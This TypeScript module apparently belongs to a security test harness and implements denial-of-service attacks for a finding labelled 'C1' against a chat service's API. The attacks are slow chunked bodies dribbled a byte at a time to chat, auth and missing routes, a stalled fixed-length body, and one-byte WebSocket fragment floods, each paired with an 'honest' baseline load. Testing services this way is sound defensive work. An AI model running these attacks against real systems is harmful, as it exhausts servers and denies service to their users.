import { WebSocket } from 'ws';
import { type Attack, abreast, repeat } from './attack';
import type { Field, Person } from './field';
import { requestText } from './wire';

/*
 * C1: bodies in pieces of one byte, where only the bytes were counted. Six connections send five thousand pieces each twenty times a
 * second; none of their bodies comes to an end.
 */

const CONNECTIONS = 6;
const PIECES = 5_000;
const MAX_PIECES = 1_000_000;
const EVERY_MS = 50;
const JSON_CHUNKED = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' };
const FORM_CHUNKED = { 'Content-Type': 'application/x-www-form-urlencoded', 'Transfer-Encoding': 'chunked' };

const bearer = (person?: Person): Record<string, string> =>
  person ? { Authorization: `Bearer ${person.token}` } : {};

const isOpen = (socket?: WebSocket) => socket?.readyState === WebSocket.OPEN;

/** Sends heads in turn, one to a connection, and after each of them pieces for as long as they are taken. */
async function dribble(field: Field, heads: string[], piece: string): Promise<void> {
  const pieces = piece.repeat(PIECES);
  await abreast(CONNECTIONS, (connection) =>
    repeat(field, 250, async (turn) => {
      const wire = await field.wire(field.address(connection));
      await wire.send(heads[(connection + turn) % heads.length]);
      for (let sent = 0; sent < MAX_PIECES && !wire.closed && !field.over.aborted; sent += PIECES) {
        await wire.send(pieces);
        await field.pause(EVERY_MS);
      }
      // Its end never comes.
      if (!wire.closed) await field.pause(5_000);
      wire.close();
    }),
  );
}

/** As many bytes, in pieces as clients send them, in bodies that come to an end. */
async function upload(field: Field): Promise<void> {
  const person = await field.person();
  const system_prompt = 'x'.repeat(90_000);
  const bytesPerSecond = (CONNECTIONS * PIECES * '1\r\na\r\n'.length * 1_000) / EVERY_MS;
  const everyMs = (1_000 * CONNECTIONS * system_prompt.length) / bytesPerSecond;
  await abreast(CONNECTIONS, () =>
    repeat(field, Math.max(everyMs, 350), () =>
      field.call(person, { method: 'POST', path: '/conversations', body: { system_prompt } }),
    ),
  );
}

const form = (what: string, heads: (person?: Person) => string[], piece = '1\r\na\r\n'): Attack => ({
  finding: 'C1',
  what,
  attack: async (field) => dribble(field, heads(await field.person()), piece),
  honest: upload,
});

export const BODIES: Attack[] = [
  {
    ...form('a body in pieces of one byte, from nobody', () => [requestText('POST', '/chat', JSON_CHUNKED)]),
    main: true,
    short: true,
  },
  form('the same from somebody, to several routes', (person) => [
    requestText('POST', '/chat', { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('POST', '/conversations', { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('POST', '/feedback', { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('PATCH', `/conversations/${crypto.randomUUID()}`, { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('PUT', '/users/me', { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('POST', '/providers', { ...JSON_CHUNKED, ...bearer(person) }),
  ]),
  form('the same to routes that ask nobody who they are', () => [
    requestText('POST', '/auth/token', JSON_CHUNKED),
    requestText('POST', '/auth/token', FORM_CHUNKED),
    requestText('POST', '/auth/register', JSON_CHUNKED),
    requestText('POST', '/auth/refresh', JSON_CHUNKED),
  ]),
  form('the same where there is no route, or none that takes a body', (person) => [
    requestText('POST', '/nothing-here', JSON_CHUNKED),
    requestText('PUT', '/health/live', JSON_CHUNKED),
    requestText('GET', '/models', { ...JSON_CHUNKED, ...bearer(person) }),
    requestText('DELETE', `/conversations/${crypto.randomUUID()}`, { ...JSON_CHUNKED, ...bearer(person) }),
  ]),
  form(
    'pieces of one byte, each with an extension',
    (person) => [requestText('POST', '/chat', { ...JSON_CHUNKED, ...bearer(person) })],
    '1;a=b\r\na\r\n',
  ),
  {
    finding: 'C1',
    what: 'a body of announced length, a packet per byte',
    attack: async (field) => {
      const headers = { 'Content-Type': 'application/json', 'Content-Length': '1000000' };
      const head = requestText('POST', '/chat', { ...headers, ...bearer(await field.person()) });
      await abreast(50, (connection) =>
        repeat(field, 1_000, async () => {
          const wire = await field.wire(field.address(connection % 10));
          await wire.send(head);
          while (!wire.closed && !field.over.aborted) {
            for (let byte = 0; byte < 10; byte++) await wire.send('a');
            await field.pause(20);
          }
          wire.close();
        }),
      );
    },
    honest: upload,
  },
  {
    finding: 'C1',
    what: 'frames of a socket in fragments of one byte, with pings between them',
    attack: async (field) => {
      const person = await field.person();
      await abreast(20, () =>
        repeat(field, 500, async () => {
          const socket = await field.socket(person);
          for (let sent = 0; isOpen(socket) && !field.over.aborted; sent++) {
            socket?.send('a', { fin: sent % 1_000 === 999 });
            if (sent % 10 === 9) socket?.ping();
            if (sent % 100 === 99) await field.pause(50);
          }
          socket?.terminate();
        }),
      );
    },
    honest: async (field) => {
      const person = await field.person();
      const frame = JSON.stringify({
        type: 'stop',
        request_id: 'r',
        data: {},
        conversation_id: crypto.randomUUID(),
      });
      await abreast(20, () =>
        repeat(field, 500, async () => {
          const socket = await field.socket(person);
          while (isOpen(socket) && !field.over.aborted) {
            socket?.send(frame);
            await field.pause(500);
          }
        }),
      );
    },
  },
];
